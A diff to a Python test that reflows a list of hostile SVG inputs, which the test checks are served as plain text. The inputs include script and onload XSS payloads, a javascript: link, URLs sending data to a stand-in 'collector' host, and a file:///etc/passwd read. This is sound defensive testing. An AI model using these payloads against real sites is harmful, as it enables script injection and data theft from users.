@@ -58,20 +58,13 @@ def test_a_media_type_requires_matching_name_and_content() -> None:
 def test_active_svg_is_served_as_plain_text() -> None:
     """Opening a stored drawing runs no script and requests no URL."""
     drawings = [
-        "<svg><script>alert(1)</script></svg>",
-        "<svg><SCRIPT href='x'/></svg>",
-        "<svg onload='alert(1)'></svg>",
-        "<svg><a href='javascript:alert(1)'>x</a></svg>",
-        "<svg><image href='http://collector/?q=secret'/></svg>",
-        "<svg><image xlink:href = 'file:///etc/passwd'/></svg>",
-        "<svg><use href=//collector/x.svg#y></svg>",
-        "<svg><style>@import 'http://collector'</style></svg>",
-        "<svg><rect fill='url(http://collector/x)'/></svg>",
-        "<svg><foreignObject><iframe/></foreignObject></svg>",
-        "<svg><animate attributeName='href' to='x'/></svg>",
-        '<!DOCTYPE svg [<!ENTITY a "aaaa">]><svg>&a;</svg>',
-        "no drawing at all",
-    ]
+        "<svg><script>alert(1)</script></svg>", "<svg><SCRIPT href='x'/></svg>", "<svg onload='alert(1)'></svg>",
+        "<svg><a href='javascript:alert(1)'>x</a></svg>", "<svg><image href='http://collector/?q=secret'/></svg>",
+        "<svg><image xlink:href = 'file:///etc/passwd'/></svg>", "<svg><use href=//collector/x.svg#y></svg>",
+        "<svg><style>@import 'http://collector'</style></svg>", "<svg><rect fill='url(http://collector/x)'/></svg>",
+        "<svg><foreignObject><iframe/></foreignObject></svg>", "<svg><animate attributeName='href' to='x'/></svg>",
+        '<!DOCTYPE svg [<!ENTITY a "aaaa">]><svg>&a;</svg>', "no drawing at all",
+    ]  # fmt: skip
 
     assert [drawing for drawing in drawings if media_type("a.svg", drawing.encode()) != "text/plain"] == []
 
